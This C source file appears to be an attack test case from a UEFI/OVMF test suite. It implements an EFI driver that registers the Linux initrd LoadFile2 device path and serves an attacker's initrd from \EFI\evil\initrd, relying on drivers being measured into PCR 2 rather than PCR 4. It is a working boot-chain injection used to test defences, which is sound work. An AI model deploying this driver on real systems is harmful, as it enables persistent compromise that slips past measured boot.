/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attack 9: a driver that offers the kernel an initrd of the attacker's, \EFI\evil\initrd, under the name by which it
 * looks for one, and then lets the boot go on. The firmware measures drivers into PCR 2, not 4.
 */
#include "tests-ovmf/attack/efi/common.h"

static UINT8 *bytes;
static UINTN bytes_len;

static EFI_STATUS EFIAPI load(EFI_LOAD_FILE_PROTOCOL *self, EFI_DEVICE_PATH *path, BOOLEAN boot_policy, UINTN *len,
			      VOID *buffer)
{
	(void)self, (void)path, (void)boot_policy;
	if (!buffer || *len < bytes_len) {
		*len = bytes_len;
		return EFI_BUFFER_TOO_SMALL;
	}
	CopyMem(buffer, bytes, bytes_len);
	*len = bytes_len;
	return EFI_SUCCESS;
}

static struct {
	VENDOR_DEVICE_PATH vendor;
	EFI_DEVICE_PATH end;
} __attribute__((packed)) where = {
	.vendor = { .Header = { .Type = MEDIA_DEVICE_PATH,
				.SubType = MEDIA_VENDOR_DP,
				.Length = { sizeof(VENDOR_DEVICE_PATH), 0 } },
		    .Guid = { 0x5568e427, 0x68fc, 0x4f3d, { 0xac, 0x74, 0xca, 0x55, 0x52, 0x31, 0xcc, 0x68 } } },
	.end = { .Type = END_DEVICE_PATH_TYPE,
		 .SubType = END_ENTIRE_DEVICE_PATH_SUBTYPE,
		 .Length = { sizeof(EFI_DEVICE_PATH), 0 } },
};
static EFI_LOAD_FILE_PROTOCOL protocol = { .LoadFile = load };

EFI_STATUS efi_main(EFI_HANDLE self, EFI_SYSTEM_TABLE *system)
{
	EFI_GUID device_path = DEVICE_PATH_PROTOCOL;
	EFI_GUID load_file2 = { 0x4006c0c1, 0xfcb3, 0x403e, { 0x99, 0x6d, 0x4a, 0x6c, 0x87, 0x24, 0xe0, 0x6d } };
	EFI_HANDLE handle = NULL;
	EFI_STATUS status;

	InitializeLib(self, system);
	bytes = read_file(self, L"\\EFI\\evil\\initrd", &bytes_len);
	if (!bytes)
		return EFI_NOT_FOUND;
	status = uefi_call_wrapper(BS->InstallMultipleProtocolInterfaces, 6, &handle, &device_path, &where, &load_file2,
				   &protocol, NULL);
	Print(L"@@ initrd-offered=%r\n", status);
	return status;
}
